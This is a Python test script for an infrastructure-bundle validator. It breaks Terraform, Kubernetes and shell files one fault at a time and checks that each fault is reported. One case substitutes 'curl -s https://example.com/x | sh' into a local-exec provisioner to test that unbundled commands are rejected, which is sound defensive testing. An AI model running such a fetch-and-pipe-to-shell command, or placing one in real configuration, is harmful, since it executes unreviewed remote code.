#!/usr/bin/env python3
"""The validators must reject broken bundles, or their passing means nothing.

Copies known-good bundles, breaks each in one way at a time, and asserts
check_bundle reports exactly that kind of problem.

Usage: test_validators.py BUNDLE SCHEMA [MORE_BUNDLES...]. A breakage runs on
every bundle that has its file, and each must run on at least one.
"""

from __future__ import annotations

import os
import shutil
import sys
import tempfile

import yaml

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
import check_bundle  # noqa: E402
import provider_schema  # noqa: E402


def edit(root: str, rel: str, old: str, new: str) -> None:
    path = os.path.join(root, rel)
    with open(path) as f:
        text = f.read()
    assert old in text, f"{old!r} not in {rel}"
    with open(path, "w") as f:
        f.write(text.replace(old, new, 1))


BREAKAGES = [
    ("unknown argument", "terraform/eks.tf", "deletion_protection", "deletion_protektion", "unknown argument"),
    ("unknown nested block", "terraform/eks.tf", "  storage_config {", "  storage_configuration {", "unknown argument or block `storage_configuration`"),
    ("missing required", "terraform/eks.tf", "  role_arn ", "  # role_arn ", "required argument `role_arn`"),
    ("dangling reference", "terraform/eks.tf", "aws_iam_role.cluster.arn", "aws_iam_role.clustr.arn", "points at nothing"),
    ("unparseable HCL", "terraform/vpc.tf", "resource \"aws_vpc\" \"this\" {", "resource \"aws_vpc\" \"this\" {{", "cannot parse"),
    ("unknown IAM action", "terraform/iam.tf", '"sts:TagSession"', '"sts:TagSessions"', "UNKNOWN_ACTION"),
    ("NodePool Never", "kubernetes/10-nodepools.yaml", "expireAfter: 336h", "expireAfter: Never", "forbids expireAfter: Never"),
    ("NodePool over 21 days", "kubernetes/10-nodepools.yaml", "expireAfter: 336h", "expireAfter: 500h", "exceeds 21 days"),
    ("NodePool unknown field", "kubernetes/10-nodepools.yaml", "consolidateAfter:", "consolidateAfterr: 1m\n    consolidateAfter:", "consolidateAfterr"),
    ("NodeClass misspelt field", "kubernetes/00-nodeclasses.yaml", "snatPolicy:", "snatPolicyy: Random\n  snatPolicy:", "snatPolicyy"),
    ("StorageClass unknown field", "kubernetes/20-storageclass.yaml", "reclaimPolicy:", "reclaimPolicyy: Delete\nreclaimPolicy:", "kubernetes-validate"),
    ("IngressClassParams bad enum", "kubernetes/30-ingressclass.yaml", "scheme: internet-facing", "scheme: public", "scheme"),
    ("YAML lint", "kubernetes/20-storageclass.yaml", "provisioner:", "provisioner:   ", "yamllint"),
    ("capability plural block", "terraform/capabilities.tf", "rbac_role_mapping {", "rbac_role_mappings {", "unknown argument or block `rbac_role_mappings`"),
    ("capability missing type", "terraform/capabilities.tf", 'type                      = "ARGOCD"', '# type = "ARGOCD"', "required argument `type`"),
    ("delivery source dangling", "terraform/logs.tf", "aws_eks_cluster.this.arn", "aws_eks_cluster.that.arn", "points at nothing"),
    ("bucket policy action", "terraform/logs.tf", '"s3:PutObject"', '"s3:PutObjects"', "UNKNOWN_ACTION"),
    ("local-exec other command", "terraform/logs.tf", '"${path.module}/../scripts/wait-for-cluster-update.sh"', '"curl -s https://example.com/x | sh"', "not a bundled script"),
    ("local-exec missing script", "terraform/logs.tf", "scripts/wait-for-cluster-update.sh", "scripts/wait-for-nothing.sh", "does not contain"),
    ("gate dangling", "terraform/logs.tf", "depends_on = [terraform_data.", "depends_on = [terraform_data.x", "points at nothing"),
    ("wait script syntax", "scripts/wait-for-cluster-update.sh", "done\n", "\n", "scripts/wait-for-cluster-update.sh"),
    ("unquoted shell variable", "scripts/teardown.sh", 'describe-cluster --region "$REGION"', "describe-cluster --region $REGION", "shellcheck"),
]

# Breakages of a migration bundle (tests/fixtures/migrate/legacy-mng.expected).
MIGRATION_BREAKAGES = [
    ("bootstrap flag not ignored", "terraform/cluster.tf", "      bootstrap_self_managed_addons,\n", "", "`bootstrap_self_managed_addons` is not in lifecycle.ignore_changes"),
    ("creator flag not ignored in CHANGE.md", "terraform/CHANGE.md", "\n      access_config[0].bootstrap_cluster_creator_admin_permissions,", "", "terraform/CHANGE.md: aws_eks_cluster.this: `bootstrap_cluster_creator_admin_permissions`"),
    ("unknown argument in the takeover", "terraform/cluster.tf", "  storage_config {", "  storage_configuration {", "unknown argument or block `storage_configuration`"),
    ("unknown argument in way-back.md", "way-back.md", "  compute_config {", "  compute_configuration {", "way-back.md hcl block"),
    ("no cluster import", "terraform/imports.tf", "to = aws_eks_cluster.this", "to = aws_eks_cluster.that", "does not import aws_eks_cluster.this"),
    ("dangling reference", "terraform/iam.tf", "aws_iam_role.auto_node.name", "aws_iam_role.auto_nod.name", "points at nothing"),
]


def main() -> int:
    bundles = [sys.argv[1]] + sys.argv[3:]
    provider = provider_schema.load(sys.argv[2])
    with open(os.path.join(HERE, "accepted.yaml")) as f:
        accepted = yaml.safe_load(f)
    failed = []
    ran = set()
    for bundle in bundles:
        good = check_bundle.check_bundle(bundle, provider, accepted)
        assert not good.failures, f"the unbroken bundle {bundle} must pass: {good.failures}"
        name = os.path.basename(os.path.normpath(bundle))
        for label, rel, old, new, expect in BREAKAGES:
            if not os.path.isfile(os.path.join(bundle, rel)):
                continue
            ran.add(label)
            with tempfile.TemporaryDirectory() as tmp:
                copy = os.path.join(tmp, "bundle")
                shutil.copytree(bundle, copy)
                edit(copy, rel, old, new)
                r = check_bundle.check_bundle(copy, provider, accepted)
                hit = [f for f in r.failures if expect in f]
                status = "caught" if hit else "MISSED"
                print(f"{status}: {label} ({name})")
                if not hit:
                    failed.append(f"{label} ({name}): expected a failure containing {expect!r}, got {r.failures}")
    for label, *_ in BREAKAGES:
        if label not in ran:
            failed.append(f"{label}: no bundle given has its file")
    migration = os.path.join(HERE, "..", "fixtures", "migrate", "legacy-mng.expected")
    good = check_bundle.check_migration_bundle(migration, provider, accepted)
    assert not good.failures, f"the unbroken migration bundle must pass: {good.failures}"
    for label, rel, old, new, expect in MIGRATION_BREAKAGES:
        with tempfile.TemporaryDirectory() as tmp:
            copy = os.path.join(tmp, "bundle")
            shutil.copytree(migration, copy)
            edit(copy, rel, old, new)
            r = check_bundle.check_migration_bundle(copy, provider, accepted)
            hit = [f for f in r.failures if expect in f]
            status = "caught" if hit else "MISSED"
            print(f"{status}: migration: {label}")
            if not hit:
                failed.append(f"migration: {label}: expected a failure containing {expect!r}, got {r.failures}")
    for f in failed:
        print("  " + f)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
